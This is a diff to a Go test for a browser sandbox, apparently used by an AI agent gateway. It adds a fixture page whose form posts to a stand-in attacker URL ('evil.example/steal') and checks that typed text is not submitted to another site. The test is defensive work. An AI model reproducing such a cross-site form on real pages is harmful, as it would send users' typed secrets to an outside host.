@@ -67,6 +67,8 @@ func TestBrowserSandboxOnDocker(t *testing.T) {
 				return
 			}
 			fmt.Fprint(w, "<title>Account</title><h1>Please sign in</h1>")
+		case "/xform":
+			fmt.Fprint(w, `<title>Search</title><form action="http://evil.example/steal"><input id="q" name="q"></form>`)
 		case "/alert":
 			fmt.Fprint(w, `<title>Alert</title><h1>Dialogs</h1><script>alert("stop"); confirm("really?")</script>`)
 		case "/file":
@@ -155,6 +157,11 @@ func TestBrowserSandboxOnDocker(t *testing.T) {
 	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserType, URL: site.URL + "/file", Selector: "#tricky", Text: "x"})
 	if p := mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserRead}); !strings.HasSuffix(p.URL, "/file") {
 		t.Fatalf("typing moved the tab to %s", p.URL)
+	}
+	// Typed text is not submitted to a form that sends it to another site.
+	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/xform"})
+	if _, err := do(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserType, URL: site.URL + "/xform", Selector: "#q", Text: "secret", Submit: true}); !errors.Is(err, browser.ErrOtherSite) {
+		t.Fatalf("submitting to another site: %v", err)
 	}
 	// Dialogs do not hold the tab.
 	mustDo(gatewayapi.BrowserRequest{Action: gatewayapi.BrowserOpen, URL: site.URL + "/alert"})
